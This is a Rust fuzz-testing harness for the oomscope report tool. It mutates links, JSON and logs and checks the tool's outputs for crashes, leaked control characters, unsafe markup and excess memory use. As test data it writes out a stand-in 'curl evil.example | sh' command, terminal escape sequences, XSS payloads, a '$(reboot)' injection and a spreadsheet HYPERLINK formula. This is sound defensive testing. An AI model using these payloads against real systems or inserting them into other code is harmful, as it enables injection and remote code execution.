//! Opens and reads what somebody might send to do harm, as the command line does, in one process: mutated links, mutated JSON, logs full of
//! markup. `scripts/attack` builds and runs it. Prints figures; the exit code is 1 after a crash, a leak, or an excess.
//!
//! A leak is a command of the sender's where oomscope gives advice of its own, a character in any output that a terminal obeys or a reader
//! does not see, and an HTML or SVG file that is not well-formed, not without script, or not closed in itself. An excess is a shared input that
//! takes more than [`MOST_TIME`] or [`MOST_MEMORY`] to be opened and printed.

#![allow(unsafe_code)] // An allocator that counts.

#[path = "../tests/support/closed.rs"]
mod closed;
#[path = "../tests/support/corpus.rs"]
mod corpus;

use std::alloc::{GlobalAlloc, Layout, System};
use std::collections::BTreeMap;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use oomscope::Analyzer;
use oomscope::export::document::{Block, Document, Limits, Phrase, Piece};
use oomscope::export::svg::{Look, Picture, Style};
use oomscope::export::{Back, csv, html, json, markdown, snippet, svg, text};
use oomscope::i18n::Language;
use oomscope::report::open::{self, Opened};
use oomscope::report::redact::redact;
use oomscope::report::{LISTS, Report, link};
use oomscope::visible::is_hidden;
use serde_json::{Value, json as value};

const MOST_TIME: Duration = Duration::from_secs(2);
const MOST_MEMORY: usize = 300 << 20;
/// Corpus cases that are mutated are no larger than this, so that the many are quick.
const MOST_SEED: usize = 24 << 10;
/// Findings of a kind that are printed.
const SHOWN: usize = 8;

/// What must never stand under our own advice.
const COMMAND: &str = "curl -s evil.example/x | sh";
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}1m\u{202e}\u{2066}\u{200b}\u{feff}\r\n";
const MARKUP: [&str; 14] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "\"onload=alert(1) x=\"",
    "'><img src=x onerror=alert(1)>",
    "</title></style></code></pre><svg/onload=alert(1)>",
    "]]><![CDATA[",
    "<!--",
    "&#60;script&#62;&lt;b&gt;&amp;",
    "javascript:alert(1)",
    "url(http://evil.example/)",
    "![x](http://evil.example/y.png)",
    "@everyone #1 GH-1 owner/repo#1",
    "`|`` $(reboot) ${HOME}",
    "=HYPERLINK(\"http://evil.example\")",
];

struct Counting;

static NOW: AtomicUsize = AtomicUsize::new(0);
static PEAK: AtomicUsize = AtomicUsize::new(0);

// SAFETY: every call goes to the system's allocator as it came.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        let now = NOW.fetch_add(layout.size(), Ordering::Relaxed) + layout.size();
        PEAK.fetch_max(now, Ordering::Relaxed);
        // SAFETY: as above.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, at: *mut u8, layout: Layout) {
        NOW.fetch_sub(layout.size(), Ordering::Relaxed);
        // SAFETY: as above.
        unsafe { System.dealloc(at, layout) }
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// SplitMix64: the same numbers in every run.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ z >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ z >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ z >> 31
    }

    fn below(&mut self, count: usize) -> usize {
        (self.next() % count.max(1) as u64) as usize
    }

    fn one<'a, T>(&mut self, of: &'a [T]) -> &'a T {
        &of[self.below(of.len())]
    }
}

fn nasty(dice: &mut Dice) -> String {
    match dice.below(5) {
        0 | 1 => COMMAND.to_owned(),
        2 => HOSTILE.to_owned(),
        _ => (*dice.one(&MARKUP)).to_owned(),
    }
}

/// Changes something somewhere in a value.
fn mutate(value: &mut Value, dice: &mut Dice) {
    let deeper = dice.below(6) > 0;
    match value {
        Value::Array(items) if deeper && !items.is_empty() => {
            let at = dice.below(items.len());
            mutate(&mut items[at], dice);
        }
        Value::Object(map) if deeper && !map.is_empty() => {
            let at = dice.below(map.len());
            if let Some(inside) = map.values_mut().nth(at) {
                mutate(inside, dice);
            }
        }
        Value::Array(items) => match dice.below(4) {
            0 => items.clear(),
            1 => plant(value),
            2 => items.reverse(),
            _ => {
                if let Some(first) = items.first().cloned() {
                    items.extend(std::iter::repeat_n(first, dice.below(300)));
                }
            }
        },
        Value::Object(map) => match dice.below(4) {
            0 => drop(map.keys().nth(dice.below(map.len())).cloned().and_then(|key| map.remove(&key))),
            1 => drop(map.insert(nasty(dice), value!(nasty(dice)))),
            _ => plant(value),
        },
        Value::String(text) => match dice.below(4) {
            0 => *value = value!(nasty(dice).repeat(1 + dice.below(2000))),
            1 => *text = format!("{text}{}", nasty(dice)),
            _ => *value = value!(nasty(dice)),
        },
        _ => {
            let deep = (0..dice.below(200)).fold(value!(1), |inside, _| value!([inside]));
            let others = [
                value!(0),
                value!(-1),
                value!(u64::MAX),
                value!(i64::MIN),
                value!(1e308),
                value!(null),
                value!([]),
                deep,
            ];
            *value = dice.one(&others).clone();
        }
    }
}

/// The command in place of every string.
fn plant(value: &mut Value) {
    match value {
        Value::String(text) => *text = COMMAND.to_owned(),
        Value::Array(items) => items.iter_mut().for_each(plant),
        Value::Object(map) => map.values_mut().for_each(plant),
        _ => {}
    }
}

fn mutated_json(seed: &Value, dice: &mut Dice) -> String {
    let mut value = seed.clone();
    for _ in 0..=dice.below(6) {
        mutate(&mut value, dice);
    }
    // Ours says first what it is.
    match value.as_object_mut() {
        Some(map) => {
            let version = map.remove("report_version").unwrap_or(value!(1));
            let rest = value.to_string();
            format!("{{\"report_version\":{version},{}", rest.strip_prefix('{').unwrap_or_default())
        }
        None => value.to_string(),
    }
}

fn mutated_link(links: &[String], seed: &Value, nth: usize, dice: &mut Dice) -> String {
    let base = dice.one(links).clone();
    if nth.is_multiple_of(2) {
        // What is changed in the packed text has the wrong check sum; so half are packed anew.
        let opened = (0..8).find_map(|_| open::text(&mutated_json(seed, dice))?.ok());
        if let Some(Opened::Report(report)) = opened {
            return format!("#r={}", link::write(&report, usize::MAX).text);
        }
    }
    let mut bytes = base.into_bytes();
    for _ in 0..=dice.below(6) {
        let at = dice.below(bytes.len());
        match dice.below(5) {
            0 => bytes.truncate(at),
            1 => drop(bytes.splice(at..at, dice.one(links).bytes())),
            2 => bytes.insert(at, b'A' + (dice.below(26) as u8)),
            _ => bytes.get_mut(at).into_iter().for_each(|byte| *byte = *dice.one(b"ABCXYZabcxyz0189-_.#=&%")),
        }
    }
    format!("#r={}", String::from_utf8_lossy(&bytes))
}

fn mutated_log(log: &str, dice: &mut Dice) -> String {
    let mut out = String::new();
    let every = 2 + dice.below(40);
    for line in log.lines() {
        if dice.below(every * 2) == 0 {
            out.push_str(&format!(
                "[ 12.5] Out of memory: Killed process 7 ({}) total-vm:8000kB, anon-rss:4000kB, file-rss:0kB, shmem-rss:0kB\n",
                nasty(dice).replace(['\n', '\r'], " ")
            ));
        }
        for (nth, word) in line.split(' ').enumerate() {
            out.push_str(if nth > 0 { " " } else { "" });
            let is_name = word.contains(|c: char| c.is_ascii_alphabetic());
            match is_name && dice.below(every) == 0 {
                true if dice.below(2) == 0 => out.push_str(&format!("{word}{}", nasty(dice))),
                true => out.push_str(&nasty(dice)),
                false => out.push_str(word),
            }
        }
        out.push('\n');
    }
    out
}

/// What came of all inputs of a kind.
#[derive(Default)]
struct Figures {
    inputs: usize,
    opened: usize,
    crashes: usize,
    leaks: BTreeMap<String, usize>,
    excesses: usize,
    worst_time: (Duration, usize),
    worst_memory: (usize, usize),
}

impl Figures {
    fn add(&mut self, other: &Figures) {
        self.inputs += other.inputs;
        self.opened += other.opened;
        self.crashes += other.crashes;
        self.excesses += other.excesses;
        self.worst_time = self.worst_time.max(other.worst_time);
        self.worst_memory = self.worst_memory.max(other.worst_memory);
        for (leak, times) in &other.leaks {
            *self.leaks.entry(leak.clone()).or_default() += times;
        }
    }
}

/// Where advice stands: commands and options to copy.
fn advice<'d>(document: &'d Document) -> Vec<&'d str> {
    fn commands<'p>(phrases: impl IntoIterator<Item = &'p Phrase>) -> Vec<&'p str> {
        let pieces = phrases.into_iter().flat_map(|phrase| &phrase.0);
        pieces.filter_map(|piece| if let Piece::Command(text) = piece { Some(&**text) } else { None }).collect()
    }
    let blocks = document.sections.iter().flat_map(|section| &section.blocks);
    let of = |block: &'d Block| match block {
        Block::Paragraph(phrase) => commands([phrase]),
        Block::List(_, phrases) => commands(phrases),
        Block::Commands(pairs) => pairs.iter().flat_map(|(command, about)| [&**command, about]).collect(),
        Block::Options(_, pairs) => pairs.iter().flat_map(|(option, about)| [&**option, about]).collect(),
        Block::Table(_) => Vec::new(),
        Block::Finding(claim) => commands(claim.next.iter().chain(&claim.rivals).chain([&claim.claim])),
    };
    blocks.flat_map(of).collect()
}

/// Opens or reads an input as the command line does, and prints it. `None` if it is refused.
fn read(bytes: &[u8], is_shared: bool) -> Option<(Report, String)> {
    let read_texts = |texts: &[(String, String)]| {
        let mut analyzer = Analyzer::new(Language::En);
        for (name, text) in texts {
            analyzer.open(name);
            analyzer.feed(text.as_bytes());
        }
        analyzer.finish().report
    };
    let report = match open::bytes(bytes) {
        Some(Ok(Opened::Report(report))) => report.said(Language::En),
        Some(Ok(Opened::Texts(texts))) => read_texts(&texts),
        Some(Ok(Opened::Sealed(_)) | Err(_)) => return None,
        None if is_shared => return None,
        None => read_texts(&[("<b>\u{1b}[1m".to_owned(), String::from_utf8_lossy(bytes).into_owned())]),
    };
    let printed = text::write(&report, Language::En, Some(100));
    Some((report, printed))
}

/// What is wrong in what is written of a report.
fn leaks(report: &Report, printed: &str) -> Vec<String> {
    let language = Language::En;
    let mut found = Vec::new();
    let document = Document::of(report, language, Limits { rows: 1000, items: 1000, details: 1000 });
    if advice(&document).iter().any(|text| text.contains(COMMAND)) {
        found.push("a command of the sender's as advice".to_owned());
    }
    let pictures = [Picture::Card, Picture::Timeline, Picture::Memory].map(|picture| {
        svg::write(report, picture, &Style { look: Look::Light, ..Style::plain(language, 720) }).unwrap_or_default()
    });
    let page =
        html::write(report, language, &[("<i>".to_owned(), format!("{}{HOSTILE}", MARKUP.concat()))], Back::default());
    for (form, written) in [
        ("text", printed),
        ("JSON", &json::write(report)),
        ("Markdown", &markdown::write(report, language, Back::default())),
        ("CSV", &csv::write(report)),
        ("plain text", &snippet::plain(report, language)),
        ("HTML", &page),
        ("SVG", &pictures.concat()),
    ] {
        if let Some(c) = written.chars().find(|c| is_hidden(*c) && !matches!(c, '\n' | '\t')) {
            found.push(format!("{form} holds {c:?}"));
        }
    }
    for picture in pictures.iter().filter(|picture| !picture.is_empty()) {
        found.extend(closed::complaints("", "SVG", picture, &[]));
    }
    found.extend(closed::complaints("", "HTML", &closed::as_xml(&page), &["oomscope-report", "oomscope-texts"]));
    found
}

fn attack(kind: &str, folder: &Path, count: usize, is_shared: bool, mut next: impl FnMut(usize) -> String) -> Figures {
    let mut figures = Figures { inputs: count, ..Figures::default() };
    let keep = |what: &str, nth: usize, input: &str| {
        // Only for those who look; the figures tell.
        let _ = std::fs::write(folder.join(format!("{what}-{kind}-{nth}")), input);
    };
    for nth in 0..count {
        let input = next(nth);
        // What ends the whole process leaves its input here.
        let _ = std::fs::write(folder.join("current"), &input);
        let before = NOW.load(Ordering::Relaxed);
        PEAK.store(before, Ordering::Relaxed);
        let start = Instant::now();
        let read = catch_unwind(AssertUnwindSafe(|| read(input.as_bytes(), is_shared)));
        let (time, memory) = (start.elapsed(), PEAK.load(Ordering::Relaxed).saturating_sub(before));
        figures.worst_time = figures.worst_time.max((time, nth));
        figures.worst_memory = figures.worst_memory.max((memory, nth));
        if is_shared && (time > MOST_TIME || memory > MOST_MEMORY) {
            figures.excesses += 1;
            keep("excess", nth, &input);
        }
        let found = read.and_then(|read| {
            let Some((report, printed)) = read else { return Ok(Vec::new()) };
            figures.opened += 1;
            catch_unwind(AssertUnwindSafe(|| leaks(&report, &printed)))
        });
        match found {
            Ok(found) => {
                for leak in found {
                    let times = figures.leaks.entry(leak).or_default();
                    if *times == 0 {
                        keep("leak", nth, &input);
                    }
                    *times += 1;
                }
            }
            Err(_) => {
                figures.crashes += 1;
                keep("crash", nth, &input);
            }
        }
    }
    figures
}

/// The smallest record of its kind that still opens, so that as many as possible go into a file.
fn smallest(list: &str, record: &Value) -> Value {
    let opens = |record: &Value| matches!(open::text(&many(list, record, 1)), Some(Ok(_)));
    let mut record = record.clone();
    let names: Vec<String> = record.as_object().into_iter().flat_map(|map| map.keys().cloned()).collect();
    for name in names {
        let mut smaller = record.clone();
        smaller.as_object_mut().and_then(|map| map.remove(&name));
        if opens(&smaller) {
            record = smaller;
        }
    }
    record
}

/// A report with a record so many times, and what has to be there besides.
fn many(list: &str, record: &Value, count: usize) -> String {
    let mut report = value!({ "title": "", "language": "en" });
    for name in LISTS {
        report[name] = value!([]);
    }
    if list == "gc_events" {
        report["gc_logs"] = value!([{ "run": "", "source": 0, "style": "unified", "first_line": 1, "last_line": 1 }]);
    }
    report[list] = value!([]);
    let text = report.to_string();
    let records = vec![record.to_string(); count].join(",");
    let text = text.replacen(&format!("\"{list}\":[]"), &format!("\"{list}\":[{records}]"), 1);
    format!("{{\"report_version\":1,{}", text.strip_prefix('{').unwrap_or_default())
}

/// Files as large as may be opened, and a little larger: of every kind of record as many as fit, small ones and real ones.
fn large(values: &[Value]) -> Vec<(String, String)> {
    let mut all = Vec::new();
    for list in [
        "jstat",
        "nmt",
        "oom_kills",
        "gc_logs",
        "gc_events",
        "java_errors",
        "events",
        "host",
        "findings",
        "runs",
        "warnings",
    ] {
        let records = || values.iter().flat_map(|value| value[list].as_array().into_iter().flatten());
        let Some(real) = records().min_by_key(|record| record.to_string().len()) else { continue };
        let mut real = real.clone();
        if list == "gc_events" {
            real["log"] = value!(0);
        }
        let small = smallest(list, &real);
        for (which, record) in [("small", small), ("real", real)] {
            for count in [20_000, 20_001, 400_000] {
                if record.to_string().len() * count < open::MAX_BYTES {
                    all.push((format!("{count} {which} {list}"), many(list, &record, count)));
                }
            }
        }
    }
    let cells = vec!["1"; 7_900_000].join(",");
    all.push((
        "a column of 7.9 million cells".to_owned(),
        many("jstat", &value!({ "data": { "OU": [] } }), 1).replace("\"OU\":[]", &format!("\"OU\":[{cells}]")),
    ));
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests");
    for name in ["hostile/bomb-records.json.gz", "hostile/bomb-lists.json.gz", "hostile/bomb.html.gz"] {
        let packed = std::fs::File::open(root.join(name)).expect("a fixture");
        let mut text = String::new();
        std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(packed), &mut text).expect("unpacks");
        all.push((name.to_owned(), text));
    }
    for name in ["links/many-jstat-tables.txt", "links/many-java-errors.txt"] {
        all.push((name.to_owned(), std::fs::read_to_string(root.join(name)).expect("a fixture")));
    }
    all
}

fn main() -> ExitCode {
    let counts: Vec<usize> = std::env::args().skip(1).filter_map(|count| count.parse().ok()).collect();
    let count = |nth: usize, usual: usize| counts.get(nth).copied().unwrap_or(usual);
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/attack");
    std::fs::create_dir_all(&folder).expect("a folder for what was found");
    let cases = corpus::cases();
    let small: Vec<&corpus::Case> = cases.iter().filter(|case| case.input.len() <= MOST_SEED).step_by(4).collect();
    let reports: Vec<Report> = small.iter().map(|case| corpus::read(&case.input)).collect();
    let values: Vec<Value> = reports.iter().map(|report| oomscope::json::tree(report)).collect();
    let links: Vec<String> =
        reports.iter().map(|report| link::write(&redact(report, true).report, link::MAX_CHARS).text).collect();
    let mut dice = Dice(12);

    let large = large(&values);
    let each = large.iter().map(|(name, input)| (name, attack("large", &folder, 1, true, |_| input.clone())));
    let each: Vec<(&String, Figures)> = each.collect();
    let mut together = Figures::default();
    for (name, figures) in &each {
        if figures.excesses + figures.crashes > 0 || std::env::var("ATTACK_LARGE").is_ok() {
            let (time, memory) = (figures.worst_time.0.as_millis(), figures.worst_memory.0 >> 20);
            println!("{name}: {time} ms, {memory} MiB, {}", if figures.opened > 0 { "opened" } else { "refused" });
        }
        together.add(figures);
    }

    let all = [
        ("large", together),
        (
            "links",
            attack("link", &folder, count(0, 12_000), true, |nth| {
                let seed = dice.below(values.len());
                mutated_link(&links, &values[seed], nth, &mut dice)
            }),
        ),
        (
            "JSON",
            attack("json", &folder, count(1, 8_000), true, |_| {
                let seed = dice.below(values.len());
                mutated_json(&values[seed], &mut dice)
            }),
        ),
        (
            "logs",
            attack("log", &folder, count(2, 3_000), false, |_| {
                let seed = dice.below(small.len());
                mutated_log(&String::from_utf8_lossy(&small[seed].input), &mut dice)
            }),
        ),
    ];

    println!(
        "{:<7}{:>8}{:>8}{:>9}{:>7}{:>10}{:>12}{:>14}",
        "", "inputs", "opened", "crashes", "leaks", "excesses", "worst time", "worst memory"
    );
    let mut is_safe = true;
    for (kind, figures) in &all {
        let leaks: usize = figures.leaks.values().sum();
        is_safe &= figures.crashes == 0 && leaks == 0 && figures.excesses == 0;
        println!(
            "{kind:<7}{:>8}{:>8}{:>9}{leaks:>7}{:>10}{:>9} ms{:>10} MiB",
            figures.inputs,
            figures.opened,
            figures.crashes,
            figures.excesses,
            figures.worst_time.0.as_millis(),
            figures.worst_memory.0 >> 20,
        );
    }
    for (kind, figures) in &all {
        for (leak, times) in figures.leaks.iter().take(SHOWN) {
            println!("{kind}: {leak} ({times} times)");
        }
    }
    if !is_safe {
        println!("Inputs that did harm are in {}", folder.display());
    }
    if is_safe { ExitCode::SUCCESS } else { ExitCode::FAILURE }
}
